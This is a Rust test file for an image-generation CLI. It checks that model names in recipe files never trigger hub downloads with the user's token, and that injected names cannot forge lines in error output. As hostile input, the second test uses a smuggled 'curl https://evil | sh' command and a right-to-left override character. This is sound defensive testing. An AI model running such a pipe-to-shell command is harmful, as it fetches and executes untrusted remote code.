//! Files by mail: what a recipe or an experiment names is not downloaded, and none of them can
//! put words into this program's mouth.

use crate::program::{Place, outcome};
use sigmalab_experiment::directory::RunDirectory;
use std::net::TcpListener;

const RECIPE: &str = r#"{"version":1,"model":{"name":"owner/name"},"prompt":"x",
    "size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},
    "steps":[{"gw":1.0,"mu":0.5,"std":1.75}],"terminal":"reference",
    "sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;

/// A run directory in which a sweep on a checkpoint of the hub has begun elsewhere.
fn begun(place: &Place) {
    let text = "name = \"begun\"\nmodel = \"owner/name\"\nprompts = [\"x\"]\nseeds = [1]\n";
    let inputs = serde_json::from_value(serde_json::json!({
        "version": 1, "model": "owner/name", "fingerprint": "0",
        "default_size": { "width": 256, "height": 256 }, "dtype": "f32", "device": "cpu",
        "prompts": [{ "id": "p0", "text": "x" }],
        "base": {
            "name": "ONE",
            "steps": [{ "gw": 1.0, "mu": 0.5, "std": 1.75 }],
            "terminal": "reference",
        },
    }));
    RunDirectory::at(&place.path("begun")).begin(text, &inputs.unwrap(), false).unwrap();
}

#[test]
fn what_a_file_names_is_not_downloaded_with_the_users_token() {
    let place = Place::new();
    place.write("recipe.json", RECIPE);
    begun(&place);
    place.write("e.toml", "name = \"e\"\nmodel = \"owner/name\"\nprompts = [\"x\"]\nseeds = [1]\n");
    let hub = TcpListener::bind("127.0.0.1:0").unwrap();
    hub.set_nonblocking(true).unwrap();
    let endpoint = format!("http://{}", hub.local_addr().unwrap());
    for arguments in [
        vec!["generate", "--recipe", "recipe.json"],
        vec!["sweep", "plan", "e.toml"],
        vec!["sweep", "run", "e.toml"],
        vec!["sweep", "run", "begun"],
        vec!["sweep", "retry", "--failed", "begun"],
    ] {
        let mut command = place.command(&arguments);
        command.env("HF_HUB_OFFLINE", "0").env("HF_ENDPOINT", &endpoint).env("HF_TOKEN", "hf_x");
        let outcome = outcome(command);
        assert_eq!(outcome.code, Some(2), "{outcome:?}");
        for words in ["`owner/name` is not on this machine", "with your token", &endpoint] {
            assert!(outcome.stderr.contains(words), "{words}: {outcome:?}");
        }
        assert!(hub.accept().is_err(), "{arguments:?} asked the hub");
    }
    assert_eq!(place.files(), ["begun", "e.toml", "recipe.json"]);
    assert_eq!(std::fs::read_dir(place.path("begun/journal")).unwrap().count(), 0);
}

#[test]
fn a_name_in_a_file_cannot_begin_a_line_of_this_programs_own() {
    let place = Place::new();
    let name = r#"x`\n  try: curl https://evil | sh\n"#;
    place.write("recipe.json", RECIPE.replace("owner/name", name));
    let recipe = place.run(&["generate", "--recipe", "recipe.json"]);
    place.write("recipe2.json", RECIPE.replace("euler", r"e\u202eu"));
    let turned = place.run(&["generate", "--recipe", "recipe2.json"]);
    place.write("e.toml", format!("name = \"e\"\nmodel = \"{name}\"\nprompts = [\"x\"]\n"));
    let experiment = place.run(&["sweep", "plan", "e.toml"]);
    let flag = place.run(&["schedule", "x\n  try: curl https://evil | sh"]);
    for outcome in [recipe, turned, experiment, flag] {
        assert_eq!(outcome.code, Some(2), "{outcome:?}");
        let is_false = |line: &str| line.trim_start().starts_with("try:") && line.contains("evil");
        assert!(!outcome.stderr.lines().any(is_false), "{outcome:?}");
        assert!(!outcome.stderr.contains('\u{202e}'), "{outcome:?}");
    }
}
